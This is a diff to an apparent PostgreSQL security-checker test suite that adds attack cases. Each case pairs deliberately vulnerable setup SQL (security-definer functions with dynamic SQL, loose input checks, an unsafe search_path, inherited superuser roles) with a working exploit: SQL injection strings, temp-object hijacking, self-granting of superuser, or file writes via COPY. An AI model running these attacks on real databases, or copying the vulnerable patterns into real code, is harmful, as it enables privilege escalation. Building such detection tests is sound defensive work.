@@ -731,4 +731,114 @@ export const paths: readonly AttackCase[] = [
     afterwards: "create table app.next ()",
     proof: "select has_table_privilege('{app}', 'app.next', 'select with grant option')",
   },
+
+  // Roles that own, and grants of others
+  {
+    name: "inherits from a superuser that owns a table",
+    since: 16,
+    setup:
+      "create role {group} superuser; grant {group} to {app} with inherit true, set false; alter table app.users owner to {group}; grant usage on schema app to {group}",
+    attack: "alter table app.users add column pwned int",
+  },
+  {
+    name: "inherits from the server's first superuser",
+    since: 16,
+    setup: "grant {superuser} to {app} with inherit true, set false",
+    attack: "alter function pg_catalog.now() cost 7",
+    proof: "select procost = 7 from pg_proc where oid = 'pg_catalog.now()'::regprocedure",
+  },
+  {
+    name: "a group owns the database",
+    setup: "create role {group}; grant {group} to {app}; alter database {db} owner to {group}",
+    attack: "create schema pwned; set role {group}; create schema pwned",
+  },
+  {
+    name: "create handed on by another role",
+    setup:
+      "grant create on schema app to {other} with grant option; set session authorization {other}; grant create on schema app to {app}; reset session authorization",
+    attack: "create table app.pwned()",
+  },
+  {
+    name: "execute for a group that the role can become",
+    since: 16,
+    setup: `create role {group}; grant {group} to {app} with inherit false, set true; create function app.run(q text) returns void language plpgsql security definer as 'begin execute q; end';
+            grant usage on schema app to {group}; revoke all on function app.run(text) from public; grant execute on function app.run(text) to {group}; alter function app.run(text) owner to {owner}`,
+    attack: "set role {group}; select app.run('create table app.pwned()')",
+  },
+  {
+    name: "an instead-of trigger with dynamic SQL",
+    setup: `create view app.v as select * from app.users; grant select, update on app.v to {rw};
+            create function app.put() returns trigger language plpgsql security definer as $f$ begin execute 'update app.users set name = ''' || new.name || ''''; return new; end $f$;
+            alter function app.put() owner to {owner}; revoke all on function app.put() from public; create trigger t instead of update on app.v for each row execute function app.put();
+            insert into app.users (name) values ('x')`,
+    attack: "update app.v set name = 'x''; create table app.pwned(); --'",
+  },
+  {
+    name: "a trigger on a partition, behind its parent",
+    setup: `create table app.p (id int, name text) partition by list (id); create table app.p1 partition of app.p for values in (1); grant insert on app.p to {rw};
+            create function app.log() returns trigger language plpgsql security definer as $f$ begin execute new.name; return new; end $f$; alter function app.log() owner to {owner};
+            revoke all on function app.log() from public; create trigger t before insert on app.p1 for each row execute function app.log()`,
+    attack: "insert into app.p values (1, 'create table app.pwned()')",
+  },
+  {
+    name: "a trigger behind a view of its table",
+    setup: `create view app.v as select * from app.audit_log; alter view app.v owner to {owner}; revoke all on app.audit_log from {rw}; grant insert on app.v to {rw};
+            create function app.log() returns trigger language plpgsql security definer as $f$ begin execute new.note; return new; end $f$; alter function app.log() owner to {owner};
+            revoke all on function app.log() from public; create trigger t before insert on app.audit_log for each row execute function app.log()`,
+    attack: "insert into app.v (note) values ('create table app.pwned()')",
+  },
+  {
+    name: "a loop over an array of the caller's",
+    setup: `create function app.list(cols text[]) returns void language plpgsql security definer set search_path = app, pg_temp as
+            $f$ declare c text; q text := 'select 1'; begin foreach c in array cols loop q := q || ', ' || c; end loop; execute q; end $f$; alter function app.list(text[]) owner to {owner}`,
+    attack: "select app.list(array['1; create table app.pwned()'])",
+  },
+  {
+    name: "a setting of the session",
+    setup: `create function app.tenant() returns void language plpgsql security definer set search_path = app, pg_temp as
+            $f$ begin execute 'select * from app.users where name = ''' || current_setting('my.tenant') || ''''; end $f$; alter function app.tenant() owner to {owner}`,
+    attack: "set my.tenant = 'x''; create table app.pwned(); --'; select app.tenant()",
+  },
+  {
+    name: "a check that is too loose",
+    setup: `create function app.list(c text) returns void language plpgsql security definer set search_path = app, pg_temp as
+            $f$ begin if c !~ '[a-z_]+' then raise exception 'no column %', c; end if; execute 'select id from app.users order by ' || c; end $f$; alter function app.list(text) owner to {owner}`,
+    attack: "select app.list('id; create table app.pwned()')",
+  },
+  {
+    name: "pg_temp named first",
+    setup: `grant temporary on database {db} to {app};
+            create function app.note(t text) returns void language plpgsql security definer set search_path = pg_temp, app as 'begin insert into audit_log (note) values (t); end';
+            alter function app.note(text) owner to {owner}`,
+    attack: `create function pg_temp.evil() returns trigger language plpgsql as 'begin create table app.pwned(); return new; end';
+             create temp table audit_log (id int, note text); create trigger t before insert on audit_log for each row execute function pg_temp.evil();
+             grant all on audit_log to public; select app.note('x')`,
+  },
+  {
+    name: "a catalog by its bare name, in an empty path",
+    setup: `grant temporary on database {db} to {app};
+            create function app.names() returns int language plpgsql security definer set search_path = '' as 'begin return (select max(id) from pg_tables); end';
+            alter function app.names() owner to {owner}`,
+    attack: `${exploit} create temp view pg_tables as select pg_temp.evil() as id; grant select on pg_tables to public; select app.names()`,
+  },
+  {
+    name: "attributes that are set by name",
+    setup: `create function app.set_password(r text, p text) returns void language plpgsql security definer set search_path = pg_catalog, pg_temp as
+            $f$ begin execute format('alter role %I password %L superuser', r, p); end $f$`,
+    attack: "select app.set_password('{app}', 'x')",
+    proof: superuserProof,
+  },
+  {
+    name: "a file that the caller names",
+    setup: `create function app.export(f text) returns void language plpgsql security definer set search_path = app, pg_temp as
+            $f$ begin execute format('copy (select ''pwned'') to %L', f); end $f$`,
+    attack: "select app.export('{file}')",
+    proof: "select pg_read_file('{file}') like 'pwned%'",
+  },
+  {
+    name: "a definer owned by a role that may only create",
+    setup: `create role {group}; grant create, usage on schema app to {group}; create function app.run(q text) returns void language plpgsql security definer as 'begin execute q; end';
+            alter function app.run(text) owner to {group}`,
+    attack: "select app.run('create table app.pwned()')",
+  },
 ]
